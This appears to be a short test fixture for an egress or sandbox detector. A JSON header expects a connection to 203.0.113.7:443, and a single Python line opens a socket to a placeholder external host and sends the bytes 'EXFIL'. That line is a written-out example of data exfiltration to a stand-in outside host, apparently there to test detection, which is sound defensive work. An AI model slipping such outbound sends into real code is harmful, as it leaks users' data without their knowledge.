#: {"class": "egress", "loader": "script", "expect": [["connect", "203\\.0\\.113\\.7:443"]], "effect": {"sink": ["ext", "EXFIL"]}}
import socket
import select
s = socket.socket(); s.setblocking(False); s.connect_ex((EXT, 443)); select.select([], [s], [], 5); s.send(b"EXFIL"); s.close()
